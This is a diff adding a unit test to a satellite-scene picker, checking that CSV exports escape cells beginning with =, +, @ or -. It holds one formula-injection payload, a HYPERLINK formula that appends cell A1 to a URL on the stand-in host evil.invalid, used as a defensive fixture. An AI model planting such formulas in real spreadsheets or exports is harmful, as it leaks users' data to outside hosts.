@@ -175,3 +175,22 @@ def test_exports_round_trip():
     assert rows[0]["cloud_cover"] == "12.5" and rows[0]["asset:B2"] == "http://h/a/B2.tif"
     assert rows[0]["bbox"] == "0.000000,0.000000,1.000000,1.000000"
     assert rows[1]["id"] == 'b;c,"d"' and rows[1]["online"] == "no" and rows[1]["cloud_cover"] == ""
+
+
+def test_csv_cells_from_the_catalog_never_start_a_formula():
+    from scene_picker.core.scene import Asset
+
+    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
+    scene = Scene(
+        "p",
+        evil,
+        collection="+c",
+        platform="@p",
+        footprint=box(-10, -5, -1, -2),
+        assets={"B1": Asset("B1", "-http://h/B1.tif")},
+    )
+    (row,) = csv.DictReader(io.StringIO(to_csv_text([scene], asset_columns=True)))
+    assert row["id"] == "'" + evil
+    assert (row["collection"], row["platform"]) == ("'+c", "'@p")
+    assert row["asset:B1"] == "'-http://h/B1.tif" and row["assets"] == "B1=-http://h/B1.tif"
+    assert row["bbox"] == "-10.000000,-5.000000,-1.000000,-2.000000"  # our own numbers stay as they are
